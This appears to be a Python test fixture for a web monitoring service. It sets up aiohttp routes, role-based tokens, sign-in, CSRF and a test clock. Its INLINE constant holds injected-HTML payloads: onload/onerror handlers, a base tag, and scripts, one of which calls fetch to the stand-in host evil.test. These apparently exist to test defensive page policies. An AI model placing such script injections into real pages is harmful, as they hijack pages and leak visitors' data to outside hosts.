"""A listener with a few routes, people with tokens, and a clock that a test moves."""

from __future__ import annotations

import secrets
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from aiohttp import web

from browsing import ask
from monitor.metrics import Metrics
from monitor.web import Access, Role, Web, identity, may, refusal
from monitor.websettings import WebSettings

LEAK = "ab" * 32
SIGN_IN = "/in"
INLINE = """<!doctype html><title>ours</title><style>p { color: rgb(1, 2, 3) }</style><body onload="document.title = 'theirs'">
<p style="color: rgb(1, 2, 3)">text</p><img src="http://evil.test/pixel" onerror="document.title = 'theirs'"><base href="http://evil.test/">
<script>document.title = 'theirs'; fetch('http://evil.test/told')</script><script src="http://evil.test/script.js"></script>
<iframe src="http://evil.test/"></iframe></body>"""


@dataclass
class Clock:
    now: float = 1_780_000_000.0

    def __call__(self) -> float:
        return self.now


@dataclass
class People:
    """Tokens made for this run: `file[name]`, `token[name]`; names are those of the roles."""

    folder: Path
    token: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        for role in Role:
            self.token[role.word] = secrets.token_urlsafe(24)
            path = self.file(role.word)
            path.touch(mode=0o600)
            path.write_text(self.token[role.word] + "\n")

    def file(self, name: str) -> Path:
        return self.folder / f"{name}.token"

    @property
    def settings(self) -> dict[str, Any]:
        tokens = [{"name": f"a-{r.word}", "role": r.word, "file": self.file(r.word)} for r in Role]
        return {"tokens": tokens}

    def bearer(self, name: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token[name]}"}


@dataclass
class Site:
    """`done`: what handlers did, for whom."""

    listener: Web
    metrics: Metrics
    clock: Clock
    done: list[tuple[str, str]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return self.listener.address

    def count(self, name: str, **labels: str) -> float:
        return self.metrics.registry.get_sample_value(f"leakstream_{name}_total", labels) or 0.0

    async def session(self, token: str, **headers: str) -> str:
        """The cookie of a fresh session, as a Cookie header."""
        page = await ask("GET", f"{self.url}{SIGN_IN}?{token}", **headers)
        return page.headers["Set-Cookie"].partition(";")[0]

    async def csrf(self, **headers: str) -> str:
        """What a page shown to the holder of these headers has in its form."""
        return (await ask("GET", f"{self.url}/exposures/{LEAK}", **headers)).text


@asynccontextmanager
async def site(settings: Mapping[str, Any] | None = None, **more: Any) -> AsyncIterator[Site]:
    """/exposures/{id} for viewers (its text is the CSRF token), …/close for responders, /keys (no role named) and a POST to it,
    /plain for everybody, /drop with credentials of its own, /in that signs in whoever's token is in the query.
    """
    clock, metrics = Clock(), Metrics()
    given = WebSettings.model_validate({"port": 0, "requests_per_minute": 100_000, **(settings or {})})
    made = Site(Web(given, metrics, clock=clock, **more), metrics, clock)
    listener = made.listener

    def doing(what: str) -> Any:
        async def handler(request: web.Request) -> web.Response:
            made.done.append((what, identity(request).name))
            return web.Response(text=listener.page_token(request))

        return handler

    async def plain(request: web.Request) -> web.Response:
        return web.Response(text=str(may(request, Role.RESPONDER)), headers={"Cache-Control": "max-age=60"})

    async def own(request: web.Request) -> web.Response:
        if request.headers.get("Authorization") == "none":
            return refusal(401, "no")
        return web.Response(text=str(len(await request.content.read())))

    async def sign_in(request: web.Request) -> web.Response:
        answer = web.Response()
        await listener.sign_in(request, request.query_string, answer)
        return answer

    async def sign_out(request: web.Request) -> web.Response:
        answer = web.Response()
        await listener.sign_out(request, answer)
        return answer

    async def boom(request: web.Request) -> web.Response:
        raise RuntimeError("the inside")

    async def inline(request: web.Request) -> web.Response:
        return web.Response(text=INLINE, content_type="text/html")

    async def stream(request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse()
        await answer.prepare(request)
        await answer.write(b"piece by piece")
        return answer

    listener.add_routes(
        [
            web.get("/exposures/{id}", doing("view")),
            web.get("/boom", boom),
            web.get("/stream", stream),
            web.get("/keys", doing("keys"), allow_head=False),
            web.post("/keys", doing("new key")),
        ]
    )
    listener.add_routes([web.post("/exposures/{id}/close", doing("close"))], role=Role.RESPONDER)
    listener.add_routes([web.get("/admin", doing("admin"))], role=Role.ADMIN)
    listener.add_routes([web.post("/logout", sign_out)], role=Role.VIEWER)
    listener.add_routes([web.post("/drop", own)], Access.OWN)
    listener.add_routes(
        [web.get("/plain", plain), web.get("/inline", inline), web.get(SIGN_IN, sign_in)], Access.OPEN
    )
    await listener.start()
    try:
        yield made
    finally:
        await listener.close()
